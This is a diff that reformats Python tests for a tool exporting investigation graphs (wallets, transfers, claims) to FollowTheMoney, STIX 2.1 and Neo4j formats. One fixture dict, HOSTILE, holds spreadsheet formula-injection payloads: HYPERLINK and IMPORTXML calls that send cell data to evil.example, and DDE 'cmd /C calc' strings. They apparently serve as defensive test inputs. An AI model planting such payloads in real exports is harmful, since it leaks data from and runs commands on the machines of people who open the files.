@@ -55,7 +55,8 @@ def test_ftm_every_entity_parses_and_every_reference_resolves(view: ExportView) 
     tan = next(p for p in entities.values() if p.id == "wallet-tan")
     assert tan.get("holder") == ["person-tan-weiming"]
     assert len(entities) == len(view.sources) + len(view.entities) + len(view.claims) + sum(
-        1 for p in entities.values() if p.id.endswith("-holder"))
+        1 for p in entities.values() if p.id.endswith("-holder")
+    )
 
 
 # The two deliberate deviations from the validator's strict mode (docs/exports.md, STIX 2.1): ids are UUIDv5
@@ -68,13 +69,25 @@ def test_stix_bundle_passes_the_validator(view: ExportView) -> None:
     result = validate_string(text, ValidationOptions(version="2.1"))
     assert result.is_valid, [str(e) for e in result.errors]
     assert not result.errors
-    strict = validate_string(text, ValidationOptions(version="2.1", strict=True, disabled=STIX_DEVIATIONS,
-                                                     enforce_refs=True))
+    strict = validate_string(
+        text, ValidationOptions(version="2.1", strict=True, disabled=STIX_DEVIATIONS, enforce_refs=True)
+    )
     assert strict.is_valid, [str(e) for e in strict.errors]
     bundle = stix2.parse(text, allow_custom=True)
     types = {o["type"] for o in bundle.objects}
-    assert {"identity", "threat-actor", "location", "infrastructure", "indicator", "relationship", "report",
-            "extension-definition", "marking-definition", "x-compoundgraph-wallet", "user-account"} <= types
+    assert {
+        "identity",
+        "threat-actor",
+        "location",
+        "infrastructure",
+        "indicator",
+        "relationship",
+        "report",
+        "extension-definition",
+        "marking-definition",
+        "x-compoundgraph-wallet",
+        "user-account",
+    } <= types
     rels = [o for o in bundle.objects if o["type"] == "relationship"]
     assert len(rels) == len(view.claims)
     transfers = [r for r in rels if r["relationship_type"] == "transferred"]
@@ -197,7 +210,7 @@ def test_neo4j_admin_headers_are_typed_and_consistent(view: ExportView) -> None:
                 assert r[0] in node_ids and r[1] in node_ids
     rels = list(csv.reader(io.StringIO(files["rels_TRANSFERRED.csv"].decode())))
     assert "grade_r:long" in rels[0] and "log_index:long" in rels[0]
-    assert b"neo4j-admin}\" database import full \"$DATABASE\"" in files["import.sh"]
+    assert b'neo4j-admin}" database import full "$DATABASE"' in files["import.sh"]
 
 
 def test_export_bytes_for_the_api(world: GraphStore) -> None:
@@ -218,7 +231,7 @@ HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
     "quote": "-2+3+cmd|' /C calc'!A0",
-    "title": "\t=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
+    "title": '\t=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
     "handle": "+1 555 0100",
     "carriage": "\r=1+1",
 }
@@ -281,11 +294,15 @@ def test_stix_keeps_claim_dates_properties_and_full_transfer_times(world: GraphS
     strict = validate_string(text, ValidationOptions(version="2.1", strict=True, disabled=STIX_DEVIATIONS))
     assert strict.is_valid, [str(e) for e in strict.errors]
     objects = {o["id"]: o for o in json.loads(text)["objects"]}
-    rel = next(o for o in objects.values() if o["type"] == "relationship"
-               and next(iter(o["extensions"].values())).get("compoundgraph_id") == transfer.id)
+    rel = next(
+        o
+        for o in objects.values()
+        if o["type"] == "relationship" and next(iter(o["extensions"].values())).get("compoundgraph_id") == transfer.id
+    )
     ext = next(iter(rel["extensions"].values()))
     assert stix2.utils.parse_into_datetime(rel["start_time"]) == stix2.utils.parse_into_datetime(
-        transfer.properties["timestamp"])  # to the second, not midnight
+        transfer.properties["timestamp"]
+    )  # to the second, not midnight
     assert (ext["first_seen"], ext["last_seen"]) == ("2024-02-05", "2024-03-01")
     assert ext["properties"] == {"chain": "tron", "confirmed": "true"}
     reports = [o for o in objects.values() if o["type"] == "report" and o.get("external_references")]
@@ -321,8 +338,12 @@ def test_ftm_cli_validates_the_export_unchanged(view: ExportView, tmp_path: Path
 
     src, out = tmp_path / "ftm.jsonl", tmp_path / "valid.jsonl"
     src.write_bytes(_one(render(view, "ftm")))
-    proc = subprocess.run([str(Path(sys.executable).parent / "ftm"), "validate", "-i", str(src), "-o", str(out)],
-                          capture_output=True, text=True, timeout=300)
+    proc = subprocess.run(
+        [str(Path(sys.executable).parent / "ftm"), "validate", "-i", str(src), "-o", str(out)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert proc.returncode == 0 and not proc.stderr.strip(), proc.stderr[-2000:]
     before = {e["id"]: (e["schema"], e["properties"]) for e in map(json.loads, src.read_text().splitlines())}
     after = {e["id"]: (e["schema"], e["properties"]) for e in map(json.loads, out.read_text().splitlines())}
